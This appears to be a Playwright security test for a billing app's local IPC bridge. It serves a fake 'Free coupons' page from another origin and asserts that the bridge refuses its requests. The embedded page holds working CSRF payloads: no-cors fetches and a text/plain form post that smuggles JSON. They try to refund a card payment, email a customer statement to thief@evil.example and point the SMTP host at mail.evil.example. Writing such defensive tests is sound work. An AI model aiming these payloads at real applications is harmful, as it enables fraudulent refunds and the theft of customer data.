import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { addScenarioCustomer, callChannel, startSeededApp } from './seeded';
import { screenshotPath, type TestApp } from './server';

/**
 * The attack of issue 10, repeated in Chromium: a page on another origin, open in the clerk's
 * browser while dev:web runs, posts to the bridge as a web page can (text/plain and form posts,
 * which need no preflight, and a JSON fetch, which does) to refund a $227.00 card payment, queue a
 * statement to an outside address and change the SMTP host. None of it may happen.
 */
let app: TestApp;
let evil: http.Server;
let evilUrl: string;
let paymentId: number;

const ATTACK_PAGE = (bridge: string, paymentId: number) => `<!doctype html>
<title>Free coupons</title>
<form id="f" method="POST" action="${bridge}/ipc/settings.updateOffice" enctype="text/plain" target="sink">
  <input name='{"changes":{"email":{"smtpHost":"mail.evil.example","x":"' value='"}}}'>
</form>
<iframe name="sink"></iframe>
<script>
  const bridge = ${JSON.stringify(bridge)};
  const shots = [
    fetch(bridge + '/ipc/payments.refund', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ paymentId: ${paymentId}, reason: 'refund please' }) }),
    fetch(bridge + '/ipc/documents.emailStatement', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ customerNumber: 'AT0001', to: 'thief@evil.example' }) }),
    fetch(bridge + '/ipc/payments.refund', { method: 'POST', headers: { 'content-type': 'application/json', 'x-ar-desk-token': 'guess' }, body: JSON.stringify({ paymentId: ${paymentId}, reason: 'refund please' }) }),
    fetch(bridge + '/ipc/settings.updateOffice', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ changes: { email: { smtpHost: 'mail.evil.example' } } }) }),
  ].map((p) => p.then(() => 'sent', (e) => 'blocked: ' + e.message));
  document.getElementById('f').submit();
  Promise.all(shots).then((r) => { document.title = 'done'; document.body.dataset.results = JSON.stringify(r); });
</script>`;

test.beforeAll(async () => {
  app = await startSeededApp({
    customers: 5,
    prepare: async (runtime) => {
      await addScenarioCustomer(runtime, {
        customerNumber: 'AT0001',
        legalName: 'Attwood Tiling',
        invoices: [{ invoiceNumber: 'INV-AT-1', issueDate: '2026-10-01', dueDate: '2026-10-31', cents: 22_700 }],
        cardOnFile: true,
      });
      const method = (await callChannel(runtime, 'paymentMethods.list', { customerNumber: 'AT0001' })).methods[0]!.id;
      const paid = await callChannel(runtime, 'payments.submit', {
        customerNumber: 'AT0001',
        invoiceNumbers: 'all',
        creditNumbers: [],
        method: { type: 'saved', paymentMethodId: method },
        confirmedAmountCents: 22_700,
        idempotencyKey: 'e2e-attack-payment-0001',
      });
      if (paid.status !== 'approved') throw new Error(`setup payment was ${paid.status}`);
      paymentId = paid.paymentId;
    },
  });
  evil = http.createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(ATTACK_PAGE(app.baseUrl, paymentId));
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  // "localhost" is another origin than the bridge's 127.0.0.1 page, as any site would be.
  evilUrl = `http://localhost:${(evil.address() as AddressInfo).port}/`;
});
test.afterAll(async () => {
  await new Promise<void>((resolve) => evil.close(() => resolve()));
  await app.close();
});

test('a page on another origin cannot refund, send a statement out or change the mail server through the bridge', async ({ page }) => {
  const outboxBefore = (await app.runtime.core.documents.listOutbox({ status: 'all', limit: 1000 })).length;
  await page.goto(evilUrl);
  await expect(page).toHaveTitle('done', { timeout: 15_000 });
  // The JSON fetch with a guessed token needs a preflight, which the bridge never grants.
  const shots = JSON.parse((await page.locator('body').getAttribute('data-results')) ?? '[]') as string[];
  expect(shots[2]).toMatch(/^blocked/);
  // The form post reached the bridge and was refused for its origin (the frame shows the envelope).
  await expect(page.frameLocator('iframe[name=sink]').locator('body')).toContainText('"code":"FORBIDDEN"');
  await page.screenshot({ path: screenshotPath('bridge-attack') });

  const payment = await app.runtime.core.payments.get({ paymentId });
  expect(payment.status).toBe('captured');
  expect(payment.refundedCents).toBe(0);
  expect((await app.gateway.records()).filter((r) => r.kind !== 'charge')).toEqual([]);
  const outbox = await app.runtime.core.documents.listOutbox({ status: 'all', limit: 1000 });
  expect(outbox.length).toBe(outboxBefore);
  expect(outbox.some((m) => m.to.includes('evil.example'))).toBe(false);
  expect(app.runtime.core.settings.get().settings.email.smtpHost).toBe('');

  // The app's own page, handed the token, still works.
  await page.goto(`${app.url}/#/customers/AT0001`);
  await expect(page.getByRole('heading', { name: /Attwood Tiling/ })).toBeVisible();
});
